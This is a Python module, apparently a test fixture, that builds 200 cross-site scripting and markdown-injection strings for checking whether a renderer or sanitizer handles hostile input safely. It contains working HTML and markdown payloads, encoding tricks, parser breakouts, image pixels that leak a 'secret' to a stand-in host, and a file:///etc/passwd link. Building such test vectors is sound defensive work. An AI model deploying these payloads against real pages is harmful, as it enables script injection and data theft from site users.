"""200 texts that run a script, or ask another server, if a page shows them carelessly."""

import itertools

MARK = "window.hacked=1"
FOREIGN = "http://foreign.test"

_HTML = [
    "<script>{m}</script>", "<ScRiPt>{m}</sCrIpT>", "<script src={f}/x.js></script>", "<script>{m}//", "<scr<script>ipt>{m}</script>",
    "<img src=x onerror={m}>", "<img src=x onerror='{m}'>", "<img/src=x/onerror={m}>", "<img src={f}/a.png>", "<img srcset='{f}/a.png 2x'>",
    "<svg onload={m}>", "<svg><script>{m}</script></svg>", "<svg><animate onbegin={m} attributeName=x dur=1s>", "<svg><use href='{f}/s.svg#x'>",
    "<svg><image href={f}/i.png>", "<body onload={m}>", "<iframe src='javascript:{m}'></iframe>", "<iframe srcdoc='<script>parent.{m}</script>'></iframe>",
    "<iframe src={f}></iframe>", "<object data='javascript:{m}'>", "<object data={f}></object>", "<embed src='javascript:{m}'>", "<embed src={f}>",
    "<a href='javascript:{m}'>x</a>", "<a href=' &#106;avascript:{m}'>x</a>", "<a href={f} ping={f}/ping>x</a>", "<form action='javascript:{m}'><input type=submit></form>",
    "<form><button formaction='javascript:{m}'>x", "<input autofocus onfocus={m}>", "<select autofocus onfocus={m}>", "<textarea autofocus onfocus={m}>",
    "<video src=x onerror={m}>", "<video poster={f}/p.png>", "<video><source onerror={m}></video>", "<audio src=x onerror={m}>", "<audio src={f}/a.mp3 autoplay>",
    "<details open ontoggle={m}>", "<marquee onstart={m}>x</marquee>", "<meta http-equiv=refresh content='0;url=javascript:{m}'>", "<meta http-equiv=refresh content='0;url={f}'>",
    "<link rel=stylesheet href={f}/x.css>", "<link rel=prefetch href={f}/x>", "<link rel=dns-prefetch href={f}>", "<base href={f}/>", "<style>@import '{f}/x.css';</style>",
    "<style>*{{background:url({f}/b.png)}}</style>", "<div style='background:url({f}/c.png)'>x</div>", "<div onmouseover={m} style='position:fixed;inset:0'>x</div>",
    "<math><mtext><mglyph><style><img src=x onerror={m}>", "<template><script>{m}</script></template>", "<noscript><p title='</noscript><img src=x onerror={m}>'>",
    "<!--><img src=x onerror={m}>-->", "<![CDATA[<img src=x onerror={m}>]]>", "<?xml-stylesheet href='javascript:{m}'?>", "<x contenteditable onblur={m}>x</x>",
    "<button popovertarget=p onclick={m}>x</button><div popover id=p onbeforetoggle={m}>x</div>", "\"><img src=x onerror={m}>", "'><script>{m}</script>", "</textarea><script>{m}</script>",
    "</title><script>{m}</script>", "</style><script>{m}</script>", "</script><script>{m}</script>", "<table background={f}/t.png><tr><td>x", "<bgsound src={f}/b.wav>", "<frameset onload={m}>",
    "<isindex action='javascript:{m}'>", "<applet code={f}>", "<layer src={f}>", "<xmp><script>{m}</script></xmp>", "<plaintext><script>{m}</script>", "<input type=image src={f}/i.png onerror={m}>",
]
_MARKDOWN = [
    "[x](javascript:{m})", "[x](JaVaScRiPt:{m})", "[x](java\tscript:{m})", "[x](<javascript:{m}>)", "[x](<java\u0001script:{m}>)", "[x](&#106;avascript:{m})", "[x](&#x6A;avascript&colon;{m})", "[x](javascript&#58;{m})",
    "[x](data:text/html,<script>{m}</script>)", "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)", "[x](vbscript:{m})", "[x](file:///etc/passwd)", "[x](blob:{f}/x)", "[x](//foreign.test/x)", "[x](filesystem:{f}/x)",
    "![x](javascript:{m})", "![x]({f}/pixel.png)", "![x](<{f}/pixel.png> \"t\")", "![{m}]({f}/p.png?q=secret)", "![x](data:image/svg+xml,<svg onload={m}>)", "![![x]({f}/1.png)]({f}/2.png)", "[![x]({f}/1.png)](javascript:{m})",
    "<javascript:{m}>", "<{f}/auto>", "[x]: javascript:{m}\n\n[x]", "[x][y]\n\n[y]: javascript:{m}", "![x][y]\n\n[y]: {f}/ref.png", "[x]({f} \"\\\" onmouseover={m} x=\\\"\")", "[x]({f}\" onmouseover=\"{m})", "[x]('javascript:{m}')",
    "[a](javascript:{m} 'x')", "[\\](javascript:{m})", "[x](\\javascript:{m})", "[x](javascript\\:{m})", "[**x**](javascript:{m})", "[`x`](javascript:{m})", "**<img src=x onerror={m}>**", "`<img src=x onerror={m}>`",
    "```html\n<img src=x onerror={m}>\n```", "```\" onmouseover=\"{m}\nx\n```", "```<img src=x onerror={m}>\nx\n```", "    <img src=x onerror={m}>", "# <img src=x onerror={m}>", "> <img src=x onerror={m}>", "- <img src=x onerror={m}>", "- [ ] <img src=x onerror={m}>",
    "| <img src=x onerror={m}> | b |\n|---|---|\n| <svg onload={m}> | ![x]({f}/t.png) |", "1. [x](javascript:{m})", "<details><summary onclick={m}>x</summary></details>", "&lt;img src=x onerror={m}&gt;", "&#60;script&#62;{m}&#60;/script&#62;", "\\<script>{m}\\</script>",
    "{f}/bare.png", "https://foreign.test/\"onmouseover=\"{m}", "www.foreign.test/<script>{m}</script>", "mailto:x@foreign.test?body=<script>{m}</script>", "[x](mailto:\"<script>{m}</script>)", "$\\href{{javascript:{m}}}{{x}}$", "$$\\url{{javascript:{m}}}$$", "[^1]\n\n[^1]: <img src=x onerror={m}>",
    "\u202e<img src=x onerror={m}>", "\ufeff[x](javascript:{m})", "[x](\u200bjavascript:{m})", "<im\0g src=x onerror={m}>", "[x](javascript\u2028:{m})", "~~<svg onload={m}>~~", "***[x](javascript:{m})***", "{{{{constructor.constructor('{m}')()}}}}", "${{{m}}}", "#{{{m}}}", "<% {m} %>",
]


def vectors():
    plain = [text.format(m=MARK, f=FOREIGN) for text in _HTML + _MARKDOWN]
    # Each also where a parser is in the middle of something.
    frames = itertools.cycle(["[a {} b](http://x.test)", "| {} |\n|---|\n| {} |", "> - 1. {}", "**{}", "<p>{}</p>", "![{}](x)"])
    framed = [frame.replace("{}", text.replace("\n", " ")) for text, frame in zip(plain, frames)]
    return (plain + framed)[:200]
